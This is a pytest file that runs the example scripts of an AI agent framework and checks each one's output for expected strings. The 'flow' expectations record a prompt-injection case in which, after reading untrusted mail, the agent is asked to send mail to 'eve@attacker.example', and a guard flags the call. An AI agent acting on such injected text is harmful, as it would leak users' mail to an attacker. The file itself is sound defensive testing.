"""Every example runs as it stands, and says what its reader expects."""

import os
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).parent.parent
EXAMPLES = sorted((ROOT / "examples").glob("*.py"))
SAYS = {
    "approvals": [
        "paused",
        'asked: refund {"cents":9900,"order_id":"7"}',
        "completed - The refund is on its way.",
    ],
    "budgets": ["stopped: $0.0000", "budget - The session has ", "user/ann/", "of $1.00"],
    "cashier": ["completed: The roofer is paid.", "48000 to DE89370400440532013000: Invoice 41"],
    "deps_per_user": ["open the mailbox of ann", "ann has 3 unread", "bob has 0 unread"],
    "flow": [
        "sent to bob@shop.example: Pay by Friday.",
        'asked: send_mail {"body":"All of it.","to":"eve@attacker.example"}',
        "because nobody asked for this call of send_mail, and untrusted text was read",
        "to: search_mail, text",
        "completed - Bob knows.",
    ],
    "letters": [
        "filed in shop: You owe us 98.70 euros.",
        "paid 98.7 euros to shop",
        "completed - Paid and filed.",
    ],
    "mounted": ["without a key: 401", "with one: Good morning."],
    "openai_client": [
        'asked: refund {"cents":9900,"order_id":"7"}',
        "done: 9900 cents of order 7 went back.",
        "The refund is on its way.",
    ],
    "policy": [
        "ann: little: made",
        "tim: little: policy: The user may not use refund: Refunds are made by the desk.",
        "ann: much: disallowed: Not made: refund is not allowed here: refunds end at 10000 cents.",
    ],
    "quickstart": ["From 10 to 16. (completed, $0.0000)"],
    "secretary": ["completed: Bob has his thanks", "['bob@vance.example: Your offer", "['m-1']"],
    "tickets": ["completed: T-8 is closed", "{'T-7': 'erin'}"],
    "transactional": ["Seat 4B is reserved for you.", "[('4B', 'local')]"],
    "typed_output": ["A-17 4200"],
}


def test_each_example_has_its_expectation() -> None:
    assert [path.stem for path in EXAMPLES] == sorted(SAYS)


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.stem)
def test_an_example_runs_as_it_stands(path: Path, tmp_path: Path) -> None:
    done = subprocess.run(
        [sys.executable, "-W", "error", str(path)],
        cwd=tmp_path,
        env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, ""), done.stderr
    missing = [text for text in SAYS[path.stem] if text not in done.stdout]
    assert missing == [], done.stdout
